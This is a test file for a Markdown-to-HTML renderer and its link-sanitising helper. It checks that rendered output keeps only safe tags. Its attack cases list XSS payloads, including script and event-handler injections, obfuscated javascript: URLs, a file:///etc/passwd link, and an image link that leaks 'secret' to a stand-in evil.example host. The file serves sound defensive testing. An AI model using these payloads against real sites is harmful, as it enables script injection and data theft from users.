import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';

import { drawNode } from './draw-node.ts';
import { IncrementalMarkdown } from './incremental-markdown.ts';
import { safeLink } from './safe-link.ts';

const html = (text: string): string => {
  const blocks = new IncrementalMarkdown().show(text, false);
  const options = { headingLevel: 3, tableLabel: '表格' };
  const drawn = blocks.map((block) => drawNode(block.node, options));
  return renderToStaticMarkup(createElement('main', null, ...drawn)).slice(6, -7);
};

/** The elements and attributes that Markdown may become; everything else is text. */
const harmlessTag =
  /^<\/?(?:p|strong|em|del|br|hr|code|pre|blockquote|ul|li|span|thead|tbody|tr|table)>$/;
const harmlessWithAttributes =
  /^<(?:h3 data-depth="\d"|\/h3|ol start="\d+"|\/ol|th scope="col"|th data-align="\w+" scope="col"|td(?: data-align="\w+")?|\/t[hd]|div tabindex="0" role="region" aria-label="表格"|\/div|\/a|a href="(?:https?:|mailto:|tel:|#|\/(?![/\\]))[^"]*" rel="noopener noreferrer nofollow ugc" target="_blank")>$/;

describe('rendered Markdown', () => {
  it.each([
    ['# 分析', '<h3 data-depth="1">分析</h3>'],
    ['###### 末', '<h3 data-depth="6">末</h3>'],
    [
      '甲**乙**~~丙~~*丁*`戊`',
      '<p>甲<strong>乙</strong><del>丙</del><em>丁</em><code>戊</code></p>',
    ],
    ['- 甲\n- 乙', '<ul><li>甲</li><li>乙</li></ul>'],
    ['3. 甲\n\n4. 乙', '<ol start="3"><li><p>甲</p></li><li><p>乙</p></li></ol>'],
    ['甲  \n乙<br>丙', '<p>甲<br/>乙<br/>丙</p>'],
    ['> 甲', '<blockquote><p>甲</p></blockquote>'],
    ['```js\na < b\n```', '<pre><code>a &lt; b</code></pre>'],
    [
      '|甲|乙|\n|-|-:|\n|1|2|',
      '<div tabindex="0" role="region" aria-label="表格"><table><thead><tr><th scope="col">甲</th><th data-align="right" scope="col">乙</th></tr></thead><tbody><tr><td>1</td><td data-align="right">2</td></tr></tbody></table></div>',
    ],
    ['![舌象](https://example.com/a.png)', '<p>舌象</p>'],
    [
      '[说明](https://example.com)',
      '<p><a href="https://example.com" rel="noopener noreferrer nofollow ugc" target="_blank">说明</a></p>',
    ],
    ['[说明](javascript:alert(1))', '<p><span>说明</span></p>'],
    ['https://example.com', '<p>https://example.com</p>'],
    ['[1]: https://example.com\n[1]', '<p>[1]: https://example.com\n[1]</p>'],
    ['<script>alert(1)</script>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
  ])('of %j is correct', (text, expected) => {
    expect(html(text)).toBe(expected);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<style>body{display:none}</style>',
    '<form action=//evil><input name=p autofocus onfocus=alert(1)></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<br onclick=alert(1)>',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/leak?q=secret)',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox(1))',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](\\\\evil.example)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://a/b)',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '[x](https://a" onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>1</script> | [x](javascript:1) |',
    '[![x](https://evil.example/a.png)](javascript:alert(1))',
    '# <svg onload=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '$$\\href{javascript:alert(1)}{x}$$',
  ])('of the attack %j contains only harmless elements', (attack) => {
    for (const text of [attack, `前 ${attack} 后`, `- ${attack}`, `> ${attack}`]) {
      const tags = html(text).match(/<[^>]*>/g) ?? [];
      const others = tags.filter(
        (tag) => !harmlessTag.test(tag) && !harmlessWithAttributes.test(tag),
      );
      expect(others).toEqual([]);
    }
  });
});

describe('a link', () => {
  it.each([
    'https://a.example/b?c#d',
    'HTTP://a.example',
    'mailto:a@b.example',
    'tel:120',
    '#top',
    '/chat/1',
  ])('may lead to %s', (url) => {
    expect(safeLink(url)).toBe(url);
  });

  it.each([
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'data:,x',
    'vbscript:x',
    '//host',
    '/\\host',
    '',
    'relative',
    '?a',
    'https\u0000://a',
    'java\nscript:x',
    '/a\u0009b',
    'ftp://a',
    'file:///a',
  ])('may not lead to %j', (url) => {
    expect(safeLink(url)).toBeUndefined();
  });
});
